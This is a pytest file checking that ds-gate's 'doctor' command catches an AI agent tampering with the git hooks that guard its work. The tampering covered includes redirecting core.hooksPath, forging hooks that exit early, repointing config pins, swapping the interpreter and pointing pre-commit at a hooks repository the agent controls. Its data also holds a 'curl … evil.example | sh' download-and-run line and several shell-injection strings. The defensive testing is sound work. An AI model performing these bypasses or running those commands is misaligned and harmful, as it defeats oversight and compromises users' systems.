"""Issue 35, root C: ``ds-gate doctor`` said a quest was guarded when nothing guarded it.

Each attack is what an agent can write (``.git/config``, ``.git/info``, ``.git/hooks``, the
quest's files), built on a real quest with real git, ds-gate's installed hooks and the real
pre-commit framework; doctor must fail it (or, where it cannot see, warn), never say ok.
"""

from __future__ import annotations

import shlex
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from ds_gate.cli.main import main
from ds_gate.demo.example_quest import ExampleQuest
from ds_gate.kernel.version import HOMEPAGE

from helpers import git

HOOK_IDS = ("ds-gate-validate", "ds-gate-closure", "ds-gate-pre-push")


def checks(gate_json, path: Path) -> tuple[int, dict[str, dict[str, str]]]:
    code, out = gate_json("doctor", str(path))
    return code, {c["name"]: c for c in out["checks"]}


@pytest.fixture
def installed(make_quest, capsys) -> ExampleQuest:
    quest = make_quest()
    assert main(["install", str(quest.root), "-q"]) == 0
    capsys.readouterr()
    return quest


# ---------------------------------------------------------------- 11. core.hooksPath for the worktrees only


@pytest.mark.parametrize("target", ["info/hp.cfg", "config.d/hp.cfg"])
def test_an_include_that_moves_the_worktrees_hooks_fails_doctor(installed, gate_json, tmp_path, target) -> None:
    quest = installed
    worktree = quest.worktree("idea-1", "idea/001-1")
    nohooks = tmp_path / "nohooks"
    nohooks.mkdir()
    with (quest.root / ".git" / "config").open("a") as config:
        config.write(f'[includeIf "gitdir:**/worktrees/**"]\n\tpath = {target}\n')
    (quest.root / ".git" / target).parent.mkdir(exist_ok=True)
    (quest.root / ".git" / target).write_text(f"[core]\n\thooksPath = {nohooks}\n")
    # git itself commits in the worktree with the hooks of that folder, in the root with ds-gate's
    assert git(worktree, "rev-parse", "--git-path", "hooks").stdout.strip() == str(nohooks)
    assert git(quest.root, "rev-parse", "--git-path", "hooks").stdout.strip() == ".git/hooks"
    for asked in (quest.root, worktree):
        code, found = checks(gate_json, asked)
        assert code == 1 and found["worktree hooks"]["status"] == "fail", found
        assert (
            str(worktree) in found["worktree hooks"]["message"] and str(nohooks) in found["worktree hooks"]["message"]
        )
        assert "core.hooksPath" in found["worktree hooks"]["fix"]


def test_worktrees_sharing_the_guarded_hooks_pass(installed, gate_json) -> None:
    installed.worktree("idea-1", "idea/001-1")
    code, found = checks(gate_json, installed.root)
    assert code == 0 and "worktree hooks" not in found and found["hook"]["status"] == "ok", found


# ---------------------------------------------------------------- 15. a copy of ds-gate's hooks that runs nothing


def forge(folder: Path, source: Path) -> None:
    folder.mkdir(exist_ok=True)
    for name in ("pre-commit", "pre-push"):
        lines = (source / name).read_text().splitlines(keepends=True)
        (folder / name).write_text(lines[0] + "exit 0\n" + "".join(lines[1:]))
        (folder / name).chmod(0o755)


@pytest.mark.parametrize("where", ["core.hooksPath inside the quest", "in .git/hooks itself"])
def test_a_forged_copy_of_the_hooks_fails_doctor(installed, gate_json, capsys, where) -> None:
    quest = installed
    hooks = quest.root / ".git" / "hooks"
    if where.startswith("core.hooksPath"):
        forge(quest.root / ".ds" / "hooks", hooks)
        git(quest.root, "config", "core.hooksPath", ".ds/hooks")
    else:
        forge(hooks, hooks)
    code, found = checks(gate_json, quest.root)
    assert code == 1 and found["hook"]["status"] == "fail", found
    assert "pre-commit and pre-push" in found["hook"]["message"] and "changed" in found["hook"]["message"]
    assert found["hook"]["fix"] == "reinstall: ds-gate install " + shlex.quote(str(quest.root))
    assert main(["install", str(quest.root), "-q"]) == 0  # reinstalling over the copy heals it
    capsys.readouterr()
    assert checks(gate_json, quest.root)[1]["hook"]["status"] == "ok"


@pytest.mark.parametrize(
    "line",
    [
        "DS_GATE_PYTHON='/usr/bin/python3'$(true)",
        "DS_GATE_PYTHON='/usr/bin/python3'; true",
        "DS_GATE_PINNED_CONFIG=/x;exit 0",
        # well formed, but not the reinstall install writes: the hook prints it as the fix (adversary, issue 39)
        "DS_GATE_REINSTALL='curl -s https://evil.example/x | sh'",
    ],
)
def test_an_assignment_that_runs_something_is_a_changed_hook(installed, gate_json, line) -> None:
    hook = installed.root / ".git" / "hooks" / "pre-push"
    variable = line.partition("=")[0]
    hook.write_text(
        "".join(
            line + "\n" if old.startswith(variable + "=") else old for old in hook.read_text().splitlines(keepends=True)
        )
    )
    code, found = checks(gate_json, installed.root)
    assert code == 1 and found["hook"]["status"] == "fail" and "pre-push" in found["hook"]["message"], found


def test_a_hook_installed_with_other_pins_is_vouched_for_only_where_they_are_in_force(
    installed, gate_json, capsys, monkeypatch, tmp_path
) -> None:
    """Doctor vouches for the pins its own shell would pin: run where the hook was installed, ok;
    elsewhere a fail whose fix reinstalls (adversary s7 B02/C04: the agent re-points a pin)."""
    monkeypatch.setenv("DS_GATE_PINNED_CONFIG", str(tmp_path / "elsewhere" / "config.yaml"))
    monkeypatch.setenv("DS_GATE_PINNED_CACHE", str(tmp_path / "elsewhere" / "cache"))
    assert main(["install", str(installed.root), "-q"]) == 0
    capsys.readouterr()
    assert str(tmp_path / "elsewhere") in (installed.root / ".git" / "hooks" / "pre-commit").read_text()
    code, found = checks(gate_json, installed.root)
    assert code == 0 and found["hook"]["status"] == "ok", found
    monkeypatch.delenv("DS_GATE_PINNED_CONFIG")
    monkeypatch.delenv("DS_GATE_PINNED_CACHE")
    code, found = checks(gate_json, installed.root)
    assert code == 1 and found["hook"]["status"] == "fail", found
    assert "pins DS_GATE_PINNED_CONFIG=" in found["hook"]["message"]
    assert found["hook"]["fix"] == "reinstall from your own shell: ds-gate install " + shlex.quote(str(installed.root))


def _repin(source: Path, target: Path, place: str) -> None:
    target.mkdir(exist_ok=True)
    for name in HOOKS_INSTALLED:
        lines = (source / name).read_text().splitlines(keepends=True)
        pinned = [
            f"DS_GATE_PINNED_CONFIG={shlex.quote(place)}\n" if x.startswith("DS_GATE_PINNED_CONFIG=") else x
            for x in lines
        ]
        (target / name).write_text("".join(pinned))
        (target / name).chmod(0o755)


@pytest.mark.parametrize("where", ["in .git/hooks itself", "a copy in .git/info/hooks named by core.hooksPath"])
@pytest.mark.parametrize("place", ["/nonexistent/ds-gate.yaml", "agent's file outside"])
def test_a_hook_whose_pin_the_agent_changed_fails_doctor(installed, gate_json, tmp_path, where, place) -> None:
    """Adversary s7 B02 (sed on the pin line) and C04 (a copy behind core.hooksPath, only .git/config and
    .git/info written): the hook then trusts the agent's configuration, or none; doctor said ok."""
    if place != "/nonexistent/ds-gate.yaml":
        place = str(tmp_path / "agent" / "config.yaml")
        Path(place).parent.mkdir()
        Path(place).write_text(f"no_require: [{installed.root}]\n")
    hooks = installed.root / ".git" / "hooks"
    if where.startswith("a copy"):
        _repin(hooks, installed.root / ".git" / "info" / "hooks", place)
        git(installed.root, "config", "core.hooksPath", ".git/info/hooks")
    else:
        _repin(hooks, hooks, place)
    code, found = checks(gate_json, installed.root)
    assert code == 1 and found["hook"]["status"] == "fail", found  # old: ok
    assert f"pins DS_GATE_PINNED_CONFIG={place}" in found["hook"]["message"]


# ---------------------------------------------------------------- 14. the framework's hooks from the agent's repository


def hooks_repository(folder: Path) -> str:
    """A repository whose .pre-commit-hooks.yaml defines ds-gate's ids as ``true``; its head."""
    folder.mkdir(parents=True)
    git(folder, "init", "-q", "-b", "main")
    (folder / ".pre-commit-hooks.yaml").write_text(
        yaml.safe_dump(
            [
                {"id": i, "name": i, "entry": "true", "language": "system", "always_run": True, "pass_filenames": False}
                for i in HOOK_IDS
            ]
        )
    )
    git(folder, "add", "-A")
    git(folder, "-c", "user.email=a@b", "-c", "user.name=a", "commit", "-qm", "hooks")
    return git(folder, "rev-parse", "HEAD").stdout.strip()


def framework(quest: ExampleQuest, repo: str, rev: str) -> None:
    (quest.root / ".pre-commit-config.yaml").write_text(
        yaml.safe_dump(
            {
                "default_install_hook_types": ["pre-commit", "pre-push"],
                "repos": [{"repo": repo, "rev": rev, "hooks": [{"id": i} for i in HOOK_IDS]}],
            },
            sort_keys=False,
        )
    )
    quest.checkpoint(quest.root, "pre-commit config")
    done = subprocess.run(
        [str(Path(sys.executable).parent / "pre-commit"), "install"], cwd=quest.root, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.slow
@pytest.mark.parametrize("spelling", ["absolute", "file://", "relative"])
def test_the_frameworks_hooks_from_a_repository_inside_the_quest_fail_doctor(make_quest, gate_json, spelling) -> None:
    quest = make_quest()
    folder = quest.root / ".git" / "info" / "hooks-repo"
    rev = hooks_repository(folder)
    repo = {"absolute": str(folder), "file://": f"file://{folder}", "relative": ".git/info/hooks-repo"}[spelling]
    framework(quest, repo, rev)
    code, found = checks(gate_json, quest.root)
    assert code == 1 and found["hook"]["status"] == "fail", found
    assert "ds-gate-closure" in found["hook"]["message"] and repo in found["hook"]["message"]
    assert "can write" in found["hook"]["message"] and "docs/hooks.md" in found["hook"]["fix"]


@pytest.mark.slow
def test_the_frameworks_hooks_from_a_repository_in_the_home_fail_doctor(make_quest, gate_json, home) -> None:
    quest = make_quest()
    folder = home / "runtime" / "hooks-repo"
    framework(quest, str(folder), hooks_repository(folder))
    code, found = checks(gate_json, quest.root)
    assert code == 1 and found["hook"]["status"] == "fail" and str(home) in found["hook"]["message"], found


@pytest.mark.slow
@pytest.mark.parametrize("where", ["a URL", "a folder outside"])
def test_the_frameworks_hooks_from_a_mirror_are_a_warning(make_quest, gate_json, tmp_path, where) -> None:
    quest = make_quest()
    if where == "a URL":
        repo, rev = "https://git.lab.example/ds-gate.git", "0" * 40
    else:
        repo = str(tmp_path / "lab-mirror")
        rev = hooks_repository(Path(repo))
    framework(quest, repo, rev)
    code, found = checks(gate_json, quest.root)
    assert code == 0 and found["hook"]["status"] == "ok", found
    assert found["pre-commit hooks"]["status"] == "warn"
    assert (
        f"doctor cannot vouch for what {repo} runs as ds-gate-validate, ds-gate-closure"
        in found["pre-commit hooks"]["message"]
    )


@pytest.mark.slow
def test_the_frameworks_hooks_from_ds_gates_address_pass(make_quest, gate_json) -> None:
    quest = make_quest()
    framework(quest, HOMEPAGE, "0" * 40)
    code, found = checks(gate_json, quest.root)
    assert code == 0 and found["hook"]["status"] == "ok" and "pre-commit hooks" not in found, found


# ---------------------------------------------------------------- 24. the hook's interpreter swapped, pre-merge-commit gone


HOOKS_INSTALLED = ("pre-commit", "pre-merge-commit", "pre-push")


def _name_interpreter(hooks: Path, python: str, names: tuple[str, ...]) -> None:
    for name in names:
        lines = (hooks / name).read_text().splitlines(keepends=True)
        (hooks / name).write_text(
            "".join(
                f"DS_GATE_PYTHON={shlex.quote(python)}\n" if line.startswith("DS_GATE_PYTHON=") else line
                for line in lines
            )
        )


@pytest.mark.parametrize(
    "where",
    [
        "/bin/true",
        "a script in .git/info",
        "a link to Python in .git/info",
        "a link to Python in the home",
        "pre-push only",
    ],
)
def test_a_hook_naming_an_interpreter_that_is_not_the_users_python_fails_doctor(
    installed, gate_json, home, where
) -> None:
    quest = installed
    hooks, ran = quest.root / ".git" / "hooks", quest.root.parent.parent / "ran"
    if where == "/bin/true" or where == "pre-push only":
        python = "/bin/true"
    elif where == "a script in .git/info":
        python = str(quest.root / ".git" / "info" / "py")
        Path(python).write_text(f"#!/bin/sh\ntouch {shlex.quote(str(ran))}\nexit 0\n")
        Path(python).chmod(0o755)
    else:
        link = (quest.root / ".git" / "info" if "info" in where else home / "runtime") / "python3"
        link.parent.mkdir(exist_ok=True)
        link.symlink_to(sys.executable)
        python = str(link)
    _name_interpreter(hooks, python, ("pre-push",) if where == "pre-push only" else HOOKS_INSTALLED)
    code, found = checks(gate_json, quest.root)
    assert code == 1 and found["hook"]["status"] == "fail", found
    assert python in found["hook"]["message"], found["hook"]
    assert ("not a Python" if where.endswith(("true", "only")) else "can write") in found["hook"]["message"]
    assert found["hook"]["fix"] == "reinstall from the Python you use: ds-gate install " + shlex.quote(str(quest.root))
    assert not ran.exists()  # doctor judged the interpreter without running it


@pytest.mark.parametrize("how", ["replaced by exit 0", "deleted"])
def test_a_pre_merge_commit_hook_that_is_not_ds_gates_is_reported(installed, gate_json, capsys, how) -> None:
    quest = installed
    hook = quest.root / ".git" / "hooks" / "pre-merge-commit"
    if how == "deleted":
        hook.unlink()
    else:
        hook.write_text("#!/bin/sh\nexit 0\n")
    code, found = checks(gate_json, quest.root)
    assert found["hook"]["status"] == "ok" and found["pre-merge-commit hook"]["status"] == "warn", found
    assert "a local merge that brings the paper bundle in is not gated" in found["pre-merge-commit hook"]["message"]
    assert found["pre-merge-commit hook"]["fix"] == "ds-gate install " + shlex.quote(str(quest.root))
    assert main(["install", str(quest.root), "-q"]) == 0  # the fix, as printed
    capsys.readouterr()
    assert "pre-merge-commit hook" not in checks(gate_json, quest.root)[1]
    lines = hook.read_text().splitlines(keepends=True)  # ds-gate's, with a line added: changed, a fail
    hook.write_text(lines[0] + "exit 0\n" + "".join(lines[1:]))
    code, found = checks(gate_json, quest.root)
    assert code == 1 and found["hook"]["status"] == "fail" and "pre-merge-commit hook" in found["hook"]["message"], (
        found
    )


def test_the_integration_fix_quotes_a_home_the_quest_leads_to(tmp_path, gate_json, monkeypatch) -> None:
    """Adversary s7 B03: with no home named, doctor takes it from where the quest lies once its
    links are followed, which the agent chooses; pasted, the printed fix runs ds-gate alone."""
    monkeypatch.delenv("DEEPSCIENTIST_HOME", raising=False)
    home = tmp_path / "x;touch $HOME/PWNED;#"
    (home / "memory").mkdir(parents=True)
    quest = ExampleQuest(home / "quests" / "002", "002").create()
    _, found = checks(gate_json, quest.root)
    message = found["deepscientist integration"]["message"]
    fix = message.partition("opt-in: ")[2].rstrip(")")
    assert shlex.split(fix) == ["ds-gate", "install", "--deepscientist", "--home", str(home)], message
